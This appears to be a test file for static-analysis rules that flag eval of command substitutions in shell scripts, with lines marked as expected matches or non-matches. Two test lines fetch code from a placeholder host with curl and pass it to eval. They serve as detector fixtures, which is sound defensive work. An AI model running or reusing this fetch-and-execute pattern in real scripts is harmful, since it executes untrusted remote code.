# ruleid: any-run, fetched
eval "$(curl -s http://x)"
# ruleid: bare
eval $(curl -s http://x)
# ruleid: any-run
eval "$(ls)"
# ruleid: any-run
eval "`ls`"
# ok: any-run
eval "a $(ls)"
# ok: any-run, fetched
eval "$x"
# ok: any-run
eval a b
